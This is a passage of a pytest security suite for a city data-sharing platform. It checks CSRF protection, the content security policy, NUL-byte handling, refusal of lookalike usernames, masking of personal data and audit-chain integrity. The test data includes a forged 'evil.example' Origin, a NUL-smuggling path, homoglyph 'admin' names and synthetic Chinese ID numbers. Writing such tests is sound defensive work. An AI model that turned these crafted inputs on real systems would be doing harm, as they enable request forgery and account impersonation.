    templates = Path(citydata.__file__).parent.rglob("templates/*.html")
    styled = [t.name for t in templates if re.search(r"\sstyle=", t.read_text())]
    assert styled == []


def test_a_nul_character_is_the_callers_error_not_ours(store, app):
    """PostgreSQL cannot hold 0x00 in text: a value carrying one is refused (422), not a 500."""
    with TestClient(app) as client:
        answer = client.get("/open311/v2/requests/a%00b.json")
        if store.engine.dialect.name == "postgresql":
            assert answer.status_code == 422 and "NUL" in answer.json()["detail"]
        else:  # SQLite stores it; the number simply does not exist
            assert answer.status_code == 404


def test_the_api_reference_loads_nothing_from_outside(store, app):
    """An offline city network: /docs takes Swagger UI from our /static, and its policy names
    no other host a script, style or image could come from."""
    with TestClient(app) as client:
        page = client.get("/docs")
        assert page.status_code == 200
        policy = page.headers["content-security-policy"]
        assert "http" not in policy and "frame-ancestors 'none'" in policy
        sources = re.findall(r'(?:src|href)="([^"]+)"', page.text)
        assert sources and all(s.startswith("/static/vendor/swagger-ui/") for s in sources)
        for source in sources:
            assert client.get(source).status_code == 200, source
        assert client.get("/redoc").status_code == 404  # it would need a CDN


def test_cookie_authorised_api_writes_need_the_csrf_token_or_our_origin(store, sample_catalog, app):
    from test_ingest import POP, people_frame

    make_user(store, "ga", "steward", "csga")
    sent = []
    with TestClient(app) as client:
        assert _login(client, "ga").status_code == 303

        def upload(**headers):
            sent.append(1)  # a new file each time: a resubmission would change nothing anyway
            data = people_frame().write_csv().encode() + b"\n" * len(sent)
            return client.post(
                "/api/v1/batches",
                data={"class": POP, "mode": "replace"},
                files={"file": ("p.csv", data)},
                headers=headers,
            )

        assert upload(Origin="https://evil.example").status_code == 403
        assert upload().status_code == 403  # no Origin, no token
        assert upload(Origin="http://testserver").status_code == 201
        csrf = _csrf(client.get("/").text)
        assert upload(**{"X-CSRF-Token": csrf, "Origin": "https://evil.example"}).status_code == 201
    with store.session() as session:
        assert session.execute(text("SELECT count(*) FROM batches")).scalar() == 2


@pytest.mark.parametrize(
    ("name", "display", "refused"),
    [
        ("\u0430dmin", "A", True),  # Cyrillic а
        ("admin ", "Admin2", True),  # the same name with a trailing space
        ("zhang\u200b", "Z", True),  # a zero-width space
        ("x" * 500, "X", True),
        ("wang", "管理员", True),  # another user's display name
        ("wang", "王\u200b五", True),
        ("wang", "王五", False),
    ],
)
def test_registration_refuses_lookalike_and_odd_names(store, name, display, refused):
    from citydata.accounts.service import AccountError, create_user

    with store.session() as session:
        create_user(session, "admin", "password123", "admin", display_name="管理员")
    with store.session() as session:
        if refused:
            with pytest.raises(AccountError):
                create_user(session, name, "password123", "public", display_name=display)
        else:
            assert create_user(session, name, "password123", "public", display_name=display)


def test_the_register_page_says_what_is_wrong(store, app):
    make_user(store, "admin", "admin")
    with TestClient(app) as client:
        csrf = _csrf(client.get("/open/register").text)
        answer = client.post(
            "/open/register",
            data={
                "username": "\u0430dmin",
                "display_name": "a",
                "password": "password123",
                "csrf": csrf,
            },
        )
    assert answer.status_code == 400 and "用户名" in answer.text


# ---------------------------------------------------------------- low: who is named in the log


def test_sharing_calls_name_the_person_and_case_in_clear_text(city, people, app):
    headers = granted(city)
    body = {"keys": [PEOPLE[0][0]], "fields": ["sex"]}
    with TestClient(app) as api:
        nobody = call(api, headers, "lookup", body, **{"X-Citydata-User-Id": ""})
        assert nobody.status_code == 400 and nobody.json()["error"]["code"] == "end_user_required"
        named = api.post(
            "/api/share/v1/lookup",
            content=json.dumps(body).encode(),
            headers=[
                ("Authorization", headers["Authorization"]),
                ("X-Citydata-User-Id", "张三".encode()),
                ("X-Citydata-Case-Id", "民政〔2026〕1号".encode()),
            ],
        )
        assert named.status_code == 200
    with city.session() as session:
        last = session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
    assert (last.end_user, last.case_id) == ("张三", "民政〔2026〕1号")


def test_administrators_reads_of_masters_are_audited(city, people, app):
    with TestClient(app) as client:
        found = client.get(
            f"/api/v1/base/population/records?key={PEOPLE[0][0]}", headers=people["admin"]
        ).json()["results"]
        master = found[0]["id"]
        client.get(f"/api/v1/base/population/records/{master}", headers=people["admin"])
        client.get(f"/base/population/{master}", headers=people["admin"])
    with city.session() as session:
        reads = audit.search(session, master_id=master)
    assert {e.action for e in reads} == {"search_masters", "read_master"} and len(reads) == 3
    assert all(e.end_user == "admin" for e in reads)


def test_webhooks_stop_when_the_subscribing_credential_is_revoked(city, people, app, tmp_path):
    from citydata.keys import Keys
    from citydata.share import webhooks
    from sharing import add_person

    headers = granted(city)
    with TestClient(app) as api:
        assert (
            call(api, headers, "subscriptions", {"url": "https://hooks.example.org/h"}).status_code
            == 200
        )
    with city.session() as session:
        service.revoke_credential(session, user(city, "civil"), headers["key_id"])
    add_person(
        city, tmp_path, ("430102200001011233", "王五", "男", "2000-01-01", "430102", "芙蓉区", None)
    )
    sent = []
    webhooks.dispatch(
        city,
        keys=Keys(("test-secret",)),
        send=lambda url, body, h: sent.append(url) or (True, "HTTP 200"),
    )
    assert sent == []


@pytest.mark.parametrize(
    "params",
    [
        {"resource_id": "101002-00001-csv", "next_page": "WyJ4Il0"},  # ["x"]
        {"resource_id": "101002-00001-csv", "next_page": "W1sxXV0"},  # [[1]]
        {"resource_id": "101002-00001-csv", "offset": 10**19},
        {"resource_id": "101002-00001-csv", "limit": 10**19},
        {"resource_id": "101002-00001-csv", "filters": {"_id": [10**30]}},
    ],
)
def test_malformed_open_data_paging_is_the_callers_error(open_api, params):
    answer = open_api.post("/api/3/action/datastore_search", content=json.dumps(params).encode())
    assert 400 <= answer.status_code < 500 and answer.json()["success"] is False


# ---------------------------------------------------------------- the leak property

PERSONAL = {"id_number", "name", "address", "phone"}  # in the population base's class
SURNAMES, GIVEN = (
    "王李张刘陈杨黄赵吴周徐孙马朱胡郭何高林罗",
    "伟芳娜秀英敏静丽强磊军洋勇艳杰娟涛明超秀兰霞平刚桂英",
)
DIVISIONS = ["430102", "430103", "430104", "430105", "430111", "430112", "430121", "430181"]


def crowd(n: int, seed: int = 7) -> list[tuple]:
    """``n`` residents with valid, consistent ID numbers: more than the 64 rows a delivery
    masks value by value, so the vectorised path is what these tests read."""
    import random

    from stdnum.cn import ric

    rng = random.Random(seed)
    rows = []
    for i in range(n):
        division = rng.choice(DIVISIONS)
        born = date(1940, 1, 1) + timedelta(days=rng.randrange(27_000))
        sex = rng.choice("男女")
        serial = f"{rng.randrange(100):02d}{rng.choice('13579' if sex == '男' else '02468')}"
        body = f"{division}{born:%Y%m%d}{serial}"
        name = rng.choice(SURNAMES) + "".join(rng.choice(GIVEN) for _ in range(rng.randint(1, 2)))
        rows.append(
            (
                body + ric.calc_check_digit(body + "0"),  # it ignores the last character
                name,
                sex,
                born.isoformat(),
                division,
                f"长沙市芙蓉区五一大道{i + 1}号",
                f"13{rng.randrange(10**9):09d}",
            )
        )
    return rows


@pytest.fixture
def crowded(city, people, tmp_path):
    from citydata.bases import service as bases

    rows = crowd(80)
    path = tmp_path / "crowd.csv"
    pl.DataFrame(rows, schema=FIELDS, orient="row").write_csv(path)
    assert ingest(city, path, HOUSEHOLD_CLASS).rows_rejected == 0
    bases.resolve(city, "population")
    return rows + PEOPLE


def _delivered(api, headers, action, asked, everyone, city):
    """(records that left, raw bytes that left) for one call of ``action``."""
    from citydata.keys import Keys
    from citydata.share import webhooks

    keys = [p[0] for p in everyone][:100]
    if action == "lookup":
        answer = call(api, headers, "lookup", {"keys": keys, "fields": asked})
        return answer.json().get("records", []), answer.content, answer.status_code
    if action == "query":
        answer = call(api, headers, "query", {"fields": asked, "limit": 1000})
        return answer.json().get("records", []), answer.content, answer.status_code
    if action == "export":
        answer = call(api, headers, "export", {"fields": asked})
        if answer.status_code != 200:
            return [], answer.content, answer.status_code
        return [orjson.loads(x) for x in answer.content.splitlines()], answer.content, 200
    if action == "changes":
        answer = call(api, headers, "changes", {"fields": asked, "limit": 1000})
        found = [c["record"] for c in answer.json().get("changes", []) if c["record"]]
        return found, answer.content, answer.status_code
    if action == "verify":
        person = everyone[0]
        claims = {f: person[FIELDS.index(f)] for f in asked}
        answer = call(api, headers, "verify", {"key": person[0], "fields": claims})
        return [], answer.content, answer.status_code
    # webhooks: what a notice carries
    made = call(api, headers, "subscriptions", {"url": "https://hooks.example.org/n"})
    with city.session() as session:  # pretend every master changed
        session.execute(
            text(
                "INSERT INTO master_changes (base, master_id, kind, at) "
                "SELECT 'population', master_id, 'upsert', CURRENT_TIMESTAMP FROM base_population"
            )
        )
    bodies: list[bytes] = []
    webhooks.dispatch(
        city,
        keys=Keys(("test-secret",)),
        send=lambda url, body, h: bodies.append(body) or (True, "HTTP 200"),
    )
    return [], b"".join(bodies) + made.content, made.status_code


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    grant=st.sets(st.sampled_from(FIELDS), min_size=1),
    clear=st.sets(st.sampled_from(sorted(PERSONAL))),
    asked=st.lists(st.sampled_from(FIELDS), min_size=1, max_size=7, unique=True),
    action=st.sampled_from(["lookup", "query", "export", "changes", "verify", "webhooks"]),
)
def test_no_ungranted_and_no_rebuildable_personal_value_ever_leaves(
    crowded, city, app, grant, clear, asked, action
):
    everyone = crowded
    clear = clear & grant
    headers = granted(city, fields=sorted(grant), unmasked=sorted(clear))
    asked = [f for f in asked if f in grant] or sorted(grant)[:1]
    with TestClient(app) as api:
        records, raw, status = _delivered(api, headers, action, asked, everyone, city)
    if action == "webhooks":
        assert status in {200, 400}
    elif action == "verify" and "id_number" not in grant:
        assert status == 403  # the key itself must be granted to verify against it
    else:
        assert status == 200, raw[:300]
    originals = {f: {p[i] for p in everyone} - {None} for i, f in enumerate(FIELDS)}
    secret = PERSONAL - clear
    text_ = raw.decode("utf-8", "replace")
    if action in {"verify", "webhooks"}:  # value-free answers
        for name in PERSONAL:
            assert not any(v in text_ for v in originals[name] if len(v) > 3), name
        return
    assert len(records) >= 64 or action == "lookup"  # the bulk path is the one tested
    ids = {p[0] for p in everyone}
    for record in records:
        assert set(record) == set(asked)
        assert _rebuild_id(record) not in ids or "id_number" in clear
        for name, value in record.items():
            if value is None:
                continue
            if name in secret:
                assert value not in originals[name], (name, value)
                # masked: stars, or the address cut to its district
                assert "*" in value or any(value in o for o in originals[name]), (name, value)
            elif name not in PERSONAL:
                assert value in originals[name], (name, value)


# ---------------------------------------------------------------- what the suite once let through


def test_the_providers_narrowing_of_clear_fields_is_what_is_delivered(city, api):
    app_id = apply(city, fields=["name", "phone", "sex"], unmasked=["name", "phone"])
    approve(city, app_id, unmasked=["name"])  # the provider grants only the name in clear
    headers = credential(city, app_id)
    record = call(api, headers, "lookup", {"keys": [PEOPLE[0][0]], "fields": ["name", "phone"]})
    assert record.json()["records"] == [{"name": "张三", "phone": "138****5678"}]


def test_a_failed_chunk_write_fails_the_batch_and_leaves_no_row(
    store, sample_catalog, tmp_path, monkeypatch
):
    from citydata.ingest import readers, staging
    from test_ingest import POP, people_frame

    monkeypatch.setattr(readers, "CHUNK_ROWS", 1)  # one chunk a row: three chunks
    original, calls = staging.BatchWriter._write, []

    def second_fails(self, *args, **kwargs):
        calls.append(1)
        if len(calls) == 2:
            raise OSError("disk full")
        return original(self, *args, **kwargs)

    monkeypatch.setattr(staging.BatchWriter, "_write", second_fails)
    path = tmp_path / "p.csv"
    people_frame().write_csv(path)
    with pytest.raises(OSError, match="disk full"):  # the writer's error reaches the caller
        ingest(store, path, POP)
    with store.session() as session:
        staged = session.execute(text("SELECT count(*) FROM stg_101001_00001")).scalar()
        status = session.execute(text("SELECT status FROM batches")).scalars().all()
    assert staged == 0 and "committed" not in status


def test_the_decision_form_needs_its_csrf_token(city, people, app):
    app_id = apply(city)
    with TestClient(app) as bureau:
        _login(bureau, "bureau")
        forged = bureau.post(f"/share/{app_id}/decision", data={"action": "approve"})
        assert forged.status_code == 403
    with city.session() as session:
        assert session.get(ShareApplication, app_id).status == "pending"


def test_pruning_keeps_the_rest_of_the_chain_verifiable(city, api):
    from datetime import UTC, datetime

    from sqlalchemy import update

    headers = granted(city)
    for _ in range(4):
        call(api, headers, "lookup", {"keys": [PEOPLE[0][0]], "fields": ["sex"]})
    with city.session() as session:
        ids = session.scalars(select(AuditEntry.id).order_by(AuditEntry.id)).all()
        old = datetime(2000, 1, 1, tzinfo=UTC)
        session.execute(update(AuditEntry).where(AuditEntry.id.in_(ids[:2])).values(at=old))
        session.flush()
        # backdating edits hashed content: rechain the two old entries as they would have been
        prev = audit.GENESIS
        for entry in session.scalars(select(AuditEntry).where(AuditEntry.id.in_(ids[:2]))):
            row = {c: getattr(entry, c) for c in (*audit.HASHED, *audit.HASHED_IF_SET)}
            entry.prev_hash, entry.entry_hash = prev, audit.entry_hash(prev, row)
            prev = entry.entry_hash
        third = session.get(AuditEntry, ids[2])
        row = {c: getattr(third, c) for c in (*audit.HASHED, *audit.HASHED_IF_SET)}
        third.prev_hash, third.entry_hash = prev, audit.entry_hash(prev, row)
        prev = third.entry_hash
        for entry in session.scalars(
            select(AuditEntry).where(AuditEntry.id > ids[2]).order_by(AuditEntry.id)
        ):
            row = {c: getattr(entry, c) for c in (*audit.HASHED, *audit.HASHED_IF_SET)}
            entry.prev_hash, entry.entry_hash = prev, audit.entry_hash(prev, row)
            prev = entry.entry_hash
        head = audit.ensure_head(session)
        head.last_hash = prev
    with city.session() as session:
        assert audit.verify(session).ok
        assert audit.prune(session, retention_years=5) == 2
    with city.session() as session:
        report = audit.verify(session)
        # the two old entries went; retention's anchor entry joined the chain
        assert report.ok and report.entries == len(ids) - 2 + 1, report.problems


def test_verify_notices_a_read_taken_out_of_who_read_this_person(city, api):
    from citydata.audit.models import AuditSubject

    headers = granted(city)
    call(api, headers, "lookup", {"keys": [PEOPLE[0][0]], "fields": ["sex"]})
    with city.session() as session:
        assert audit.verify(session).ok
        session.execute(AuditSubject.__table__.delete())
    with city.session() as session:
        report = audit.verify(session)
    assert not report.ok and {p["problem"] for p in report.problems} == {"subjects"}
